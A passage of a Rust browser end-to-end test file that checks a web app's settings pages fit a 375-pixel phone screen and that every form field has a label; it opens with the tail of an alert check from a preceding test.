    browser.screenshot("settings-hostile-subscription").await;
    assert!(!browser.alert_open().await);
    browser.close().await;
}

/// The settings pages are usable 375 pixels wide (nothing wider than the viewport but the tables'
/// own scrolling areas), and every field of their forms has a label.
#[tokio::test]
async fn the_settings_pages_fit_a_phone_and_label_every_field() {
    let app = TestApp::spawn().await;
    let f = app.fixture(WORKER).await;
    app.ok(
        Method::PATCH,
        &app.acct(&format!("/triggers/{}/environment_variables", f.trigger)),
        Some(json!({"NODE_VERSION": {"is_secret": false, "value": "20"},
                    "API_TOKEN": {"is_secret": true, "value": SECRET_VALUE}})),
    )
    .await;
    app.ok(
        Method::POST,
        &app.acct(&format!("/workers/{WORKER}/deploy_hooks")),
        Some(json!({"deploy_hook_name": "Rebuild from the CMS", "branch": "main"})),
    )
    .await;
    let sub = app
        .ok(
            Method::POST,
            &app.acct("/event_subscriptions"),
            Some(json!({"name": "events", "url": "https://hooks.example.com/kiln/events"})),
        )
        .await;
    let browser = Browser::open_with(&app.base, Viewport::Phone).await;
    browser.sign_in(ADMIN_TOKEN).await;
    let worker = format!("/accounts/{ACCOUNT}/workers/{WORKER}");
    for (name, path, form) in [
        (
            "settings-phone",
            settings(WORKER),
            Some(format!("#form-{}", f.trigger)),
        ),
        (
            "settings-phone-env",
            format!("{worker}/triggers/{}/env", f.trigger),
            Some("#env-form".to_owned()),
        ),
        (
            "settings-phone-hooks",
            format!("{worker}/deploy-hooks"),
            Some("#hook-form".to_owned()),
        ),
        (
            "settings-phone-subscriptions",
            format!("/accounts/{ACCOUNT}/subscriptions"),
            Some("#subscription-form".to_owned()),
        ),
        (
            "settings-phone-subscription",
            format!("/accounts/{ACCOUNT}/subscriptions/{}", s(&sub["id"])),
            None,
        ),
    ] {
        browser.goto(&path).await;
        browser.find("main h1").await;
        browser.screenshot(name).await;
        if path == settings(WORKER) {
            click(&browser, &format!("#edit-{}", f.trigger)).await;
        }
        let unlabelled: Value = browser
            .client
            .execute(
                "return [...document.querySelectorAll('main input:not([type=hidden]), main textarea, main select')]\
                 .filter(e => !e.labels || e.labels.length === 0).map(e => e.id || e.name)",
                vec![],
            )
            .await
            .expect("fields");
        assert_eq!(unlabelled, json!([]), "{path}: fields without a label");
        if let Some(form) = form {
            browser
                .client
                .execute(
                    "document.querySelector(arguments[0]).scrollIntoView()",
                    vec![json!(form)],
                )
                .await
                .expect("scroll to the form");
            browser.screenshot(&format!("{name}-form")).await;
        }
        let widths: Value = browser
            .client
            .execute(
                "return [document.documentElement.scrollWidth, window.innerWidth]",
                vec![],
            )
            .await
            .expect("widths");
        let (page, viewport) = (widths[0].as_i64().unwrap(), widths[1].as_i64().unwrap());
        assert_eq!(viewport, 375, "{widths}");
        assert!(
            page <= viewport,
            "{path}: {page} px wide on a {viewport} px screen"
        );
    }
    browser.close().await;
}
